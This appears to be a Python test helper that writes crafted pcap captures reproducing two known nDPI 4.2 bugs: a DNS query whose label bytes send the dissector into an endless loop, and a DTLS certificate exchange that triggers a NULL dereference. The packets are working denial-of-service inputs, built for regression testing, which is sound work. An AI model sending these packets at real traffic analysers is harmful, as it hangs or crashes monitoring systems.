#!/usr/bin/python3
"""Crafted captures for nDPI 4.2's known bugs (tests/ndpi/t_ndpi_bugs.sh).

dns-wrap:  one UDP datagram to port 53 whose 65,495-byte payload is a DNS
           query with label bytes 0x3f: nDPI 4.2's DNS dissector walks the
           labels with a 16-bit index (protocols/dns.c, "dissect the
           following queries") that wraps from 65,484 to 12 and loops for
           ever (fixed upstream after 4.2, nDPI PR #1804).
dtls-cert: a DTLS 1.2 ClientHello and a server Certificate for a host name
           nDPI knows; with the DTLS dissector in 4.2 a known certificate
           name leads to a NULL dereference.
Written as raw-IP pcaps (link type 101) so one record can hold a 65,535-byte
datagram.
"""
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip4_udp(src, dst, sport, dport, payload, ident=1):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    tot = 20 + len(udp)
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, tot, ident, 0, 64, 17, 0, bytes(src), bytes(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + udp


def write_pcap(path, packets):
    with open(path, "wb") as fp:
        fp.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 101))
        t = 1767225600
        for i, p in enumerate(packets):
            fp.write(struct.pack("<IIII", t + i, 0, len(p), len(p)) + p)


def dns_wrap():
    # A standard query (flags 0), one question; then label bytes all 63.
    hdr = struct.pack("!HHHHHH", 0x1234, 0x0000, 1, 0, 0, 0)
    payload = hdr + b"\x3f" * (65507 - len(hdr))
    return [ip4_udp([198, 18, 0, 10], [198, 19, 0, 53], 40000, 53, payload)]


def dtls_cert():
    # Record header: content type 22 (handshake), version DTLS 1.2 (fefd),
    # epoch, sequence, length; then a handshake message.
    def record(seq, body):
        return struct.pack("!BHH", 22, 0xFEFD, 0) + seq.to_bytes(6, "big") + struct.pack("!H", len(body)) + body

    def handshake(htype, seq, body):
        n = len(body).to_bytes(3, "big")
        return bytes([htype]) + n + struct.pack("!H", seq) + b"\0\0\0" + n + body

    hello = struct.pack("!H", 0xFEFD) + b"\x11" * 32 + b"\x00" + b"\x00" + struct.pack("!H", 2) + b"\xc0\x2b" + b"\x01\x00"
    sni = b"www.facebook.com"
    ext = struct.pack("!HHHBH", 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
    hello += struct.pack("!H", len(ext)) + ext
    # A minimal "certificate" whose subject CN names a host nDPI knows.
    cn = b"\x55\x04\x03\x0c" + bytes([len(sni)]) + sni
    cert = b"\x30\x82\x01\x00" + b"\x30\x82\x00\xf0" + cn * 4 + b"\0" * 64
    certs = len(cert).to_bytes(3, "big") + cert
    certmsg = (len(certs)).to_bytes(3, "big") + certs
    cli, srv = [198, 18, 0, 11], [198, 19, 0, 44]
    return [
        ip4_udp(cli, srv, 50000, 443, record(0, handshake(1, 0, hello)), 2),
        ip4_udp(srv, cli, 443, 50000, record(0, handshake(2, 0, struct.pack("!H", 0xFEFD) + b"\x22" * 32 + b"\x00\xc0\x2b\x00")), 3),
        ip4_udp(srv, cli, 443, 50000, record(1, handshake(11, 1, certmsg)), 4),
    ]


if __name__ == "__main__":
    kind, out = sys.argv[1], sys.argv[2]
    write_pcap(out, {"dns-wrap": dns_wrap, "dtls-cert": dtls_cert}[kind]())
